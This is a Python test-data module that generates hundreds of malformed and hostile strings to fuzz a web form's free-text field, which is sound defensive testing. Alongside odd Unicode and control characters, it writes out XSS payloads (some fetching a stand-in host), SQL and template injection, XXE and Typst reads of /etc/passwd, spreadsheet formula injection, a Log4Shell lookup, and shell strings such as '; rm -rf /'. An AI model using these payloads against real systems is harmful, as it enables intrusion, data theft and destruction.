"""Nasty strings, made here: what people and programs type into a free text to break things.

``strings()`` yields at least 507 different ones; each is text as a browser can post it.
"""

from __future__ import annotations

from collections.abc import Iterator


def strings() -> list[str]:
    """Return every nasty string once, in a fixed order."""
    made = dict.fromkeys(
        text
        for family in (
            control_characters,
            invisible_and_bidirectional,
            scripts_and_emoji,
            combining,
            html,
            sql,
            templates,
            typst,
            formulas,
            format_strings,
            paths_and_shells,
            numbers_and_words,
            line_ends,
            long_ones,
        )
        for text in family()
    )
    return list(made)


def control_characters() -> Iterator[str]:
    for code in (*range(0x01, 0x20), *range(0x7F, 0xA1)):
        yield f"prima{chr(code)}dopo"
    for code in (*range(0xFDD0, 0xFDF0), 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF):
        yield f"non un carattere: {chr(code)}."
    for code in (0xE000, 0xF8FF, 0xF0000, 0x100000, 0xFFFC, 0xFFFD):
        yield f"privato o sostituito {chr(code)}"


def invisible_and_bidirectional() -> Iterator[str]:
    codes = (
        *range(0x200B, 0x2010),
        *range(0x2028, 0x202F),
        *range(0x2060, 0x2070),
        0x00AD,
        0x034F,
        0x061C,
        0x115F,
        0x1160,
        0x17B4,
        0x180E,
        0x3000,
        0x3164,
        0xFEFF,
        0xFFA0,
        *range(0xFE00, 0xFE10),
        0xE0001,
        *range(0xE0020, 0xE0030),
    )
    for code in codes:
        yield f"a{chr(code)}b"
        yield f"{chr(code)}solo all'inizio"
    yield "\u202egpj.exe\u202c ok"
    yield "\u2066\u2067\u2068annidati\u2069\u2069\u2069"
    yield "abc \u05d0\u05d1\u05d2 123 \u0627\u0628 def"


def scripts_and_emoji() -> Iterator[str]:
    for word in (
        "Ünïcödé è perché così più",
        "Ελληνικά",
        "Кириллица",
        "עברית",
        "العربية",
        "हिन्दी",
        "ไทย",
        "中文字元",
        "日本語ﾃｽﾄ",
        "한국어",
        "ქართული",
        "አማርኛ",
        "ᚠᛇᚻ᛫ᛒᛦᚦ",
        "𝔉𝔯𝔞𝔨𝔱𝔲𝔯",
        "Ⓒⓘⓡⓒⓛⓔ",
        "ﬁ ﬂ ﬀ",
        "İstanbul ı",
        "straße ẞ",
        "ǅ ǈ ǋ",
        "Å Å",
        "①②③",
        "½ ⅓",
        "٠١٢٣٤٥٦٧٨٩",
        "１２３",
        "Ⅷ",
        "€ £ ¥ ₿",
        "∀x∈ℝ: ⌈x⌉ = −⌊−x⌋",
        "─│┌┐",
        "▁▂▃▄▅▆▇█",
        "(╯°□°)╯︵ ┻━┻",
        "ツ",
        "¯\\_(ツ)_/¯",
    ):
        yield word
        yield word[::-1] * 3
    for start in (0x1F300, 0x1F400, 0x1F600, 0x1F680, 0x1F900):
        for code in range(start, start + 8):
            yield chr(code)
    yield "👨‍👩‍👧‍👦 👩🏽‍💻 🏳️‍🌈 🇮🇹🇪🇺"
    yield "👩" + "\u200d👩" * 50
    yield "🇮"


def combining() -> Iterator[str]:
    for code in range(0x300, 0x310):
        yield "Z" + chr(code) * 40 + "algo"
        yield chr(code) + "senza base"
    yield "e\u0301 contro é"
    yield "\u0915\u094d\u200d\u0937"


def html() -> Iterator[str]:
    for payload in ("alert(1)", "document.cookie", "fetch('//e.example')", "print()"):
        yield f"<script>{payload}</script>"
        yield f"</textarea><script>{payload}</script>"
        yield f'"><img src=x onerror={payload}>'
        yield f"' onfocus='{payload}' autofocus='"
        yield f"<svg/onload={payload}>"
        yield f'<a href="javascript:{payload}">qui</a>'
        yield f"<iframe srcdoc='<script>{payload}</script>'></iframe>"
        yield f"<details open ontoggle={payload}>"
        yield f"<style>@import'data:,*%7b%7d';</style>{payload}"
        yield f"&lt;script&gt;{payload}&lt;/script&gt;"
        yield f"&#60;script&#62;{payload}"
        yield f"\\x3cscript\\x3e{payload}"
        yield f"＜script＞{payload}＜/script＞"
        yield f"<!--{payload}-->"
        yield f"<![CDATA[{payload}]]>"
        yield f"<?php {payload}; ?>"
    yield "<"
    yield ">"
    yield "&"
    yield "&amp;amp;"
    yield "\"'`"
    yield "<plaintext>"
    yield "<base href=//e.example>"
    yield "<meta http-equiv=refresh content=0>"
    yield "</form></main></body></html>"
    yield "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;"


def sql() -> Iterator[str]:
    for quote in ("'", '"', "`", "\\'", "%27", "’", "$$"):
        yield f"{quote} OR 1=1 --"
        yield f"{quote}; DROP TABLE response; --"
        yield f"1{quote}) UNION SELECT 1,2,3 --"
        yield f"{quote}||(SELECT sqlite_version())||{quote}"
    yield from ("NULL", "null", "DEFAULT", "?", ":name", "%s", "%(id)s", "$1", "E'\\000'", "0x00")


def templates() -> Iterator[str]:
    for inside in ("7*7", "config", "self.__init__.__globals__", "''.__class__.__mro__", "x|safe"):
        for left, right in (
            ("{{ ", " }}"),
            ("{% ", " %}"),
            ("{# ", " #}"),
            ("${", "}"),
            ("#{", "}"),
            ("<%= ", " %>"),
            ("{{=", "}}"),
            ("@(", ")"),
        ):
            yield f"{left}{inside}{right}"


def typst() -> Iterator[str]:
    for inside in (
        '#read("/etc/passwd")',
        "#evil",
        "#{",
        "#let x = 1",
        '#import "a": *',
        "$x^2$",
        "*grassetto*",
        "_corsivo_",
        "= Titolo",
        "- voce",
        "@rif",
        "<etichetta>",
        "`codice`",
        "```",
        "//commento",
        "/*",
        "#pagebreak()",
        "#sys.inputs",
        "~",
        "\\",
        "#panic()",
    ):
        yield inside
        yield f"testo {inside} testo"
        yield f"]{inside}["


def formulas() -> Iterator[str]:
    for start in ("=", "+", "-", "@", "\t=", "\n=", "＝", "|", "%", "\u200b="):
        yield f"{start}1+1"
        yield f"{start}cmd|' /C calc'!A0"
        yield f'{start}HYPERLINK("http://e.example","qui")'
        yield f"{start}SUM(A1:A9)*"


def format_strings() -> Iterator[str]:
    for text in (
        "%d",
        "%n%n%n",
        "%x" * 20,
        "{}",
        "{0}",
        "{0.__class__}",
        "{answers}",
        "%(value)s",
        "%",
        "%%",
        "100%",
        "{",
        "}",
        "{{",
        "}}",
        'f"{x}"',
        "\\u0000",
        "\\N{BULLET}",
        "\\x00",
        "\\",
        "\\\\",
        "\\n",
        "$HOME",
        "${jndi:ldap://e.example/a}",
        "`id`",
        "$(id)",
    ):
        yield text
        yield f"a {text} b {text}"


def paths_and_shells() -> Iterator[str]:
    for text in (
        "../../../../etc/passwd",
        "..\\..\\boot.ini",
        "file:///dev/null",
        "/dev/zero",
        "CON",
        "NUL",
        "; rm -rf /",
        "| cat /etc/passwd",
        "&& reboot",
        "--help",
        "-rf",
        "\r\nSet-Cookie: a=b",
        "Location: http://e.example",
        "http://e.example/%00",
        "data:text/html,x",
        "javascript:1",
        "[[1]](x)",
        "![a](http://e.example/a.png)",
        "((((((((((",
        "a@b.example",
        "+39 055 000000",
    ):
        yield text
        yield text.upper() + "?"


def numbers_and_words() -> Iterator[str]:
    for text in (
        "0",
        "-0",
        "1e309",
        "NaN",
        "Infinity",
        "-1",
        "0x7fffffff",
        "9" * 30,
        "1/0",
        "1,5",
        "1.5",
        "0.30000000000000004",
        "true",
        "false",
        "undefined",
        "None",
        "nil",
        "[]",
        '{"a": 1}',
        "[object Object]",
        "__proto__",
        "constructor",
        "NS",
        "NP",
        "?",
        ".",
        "|",
        "1|2",
        "¡",
        "0777",
        "2026-02-30",
        "Scunthorpe",
        "Null",
    ):
        yield text
        yield f" {text} "


def line_ends() -> Iterator[str]:
    for end in ("\n", "\r", "\r\n", "\n\r", "\n\n\n", "\v", "\f", "\u0085", "\u2028", "\u2029"):
        yield f"riga uno{end}riga due"
        yield f"{end}comincia a capo"
        yield f"finisce a capo{end}"
    yield "  spazi   in mezzo  "
    yield "\ttabulazioni\t"


def long_ones() -> Iterator[str]:
    yield "a" * 1_000
    yield "è" * 1_000
    yield "😀" * 1_000
    yield "a" * 1_001
    yield "😀" * 1_001
    yield "parola " * 2_000
    yield "<" * 1_000
    yield "\n" * 999 + "x"


def as_bytes() -> list[bytes]:
    """Return bodies that are no proper UTF-8, percent-encoded as a form field's value."""
    return [
        b"%00",
        b"a%00b",
        b"%C0%AF",
        b"%E0%80%AF",
        b"%F0%80%80%AF",
        b"%C0%80",  # overlong, NUL
        b"%ED%A0%80",
        b"%ED%B0%80",
        b"%ED%A0%BD%ED%B8%80",  # halves of characters
        b"%FF%FE",
        b"%FE",
        b"%80",
        b"%BF",
        b"%F5%80%80%80",
        b"%F4%90%80%80",  # never valid
        b"caff%E8",
        b"%E2%82",
        b"%",
        b"%zz",
        b"%u0041",
        b"+%20+",  # Latin-1, cut short, not encoded
    ]
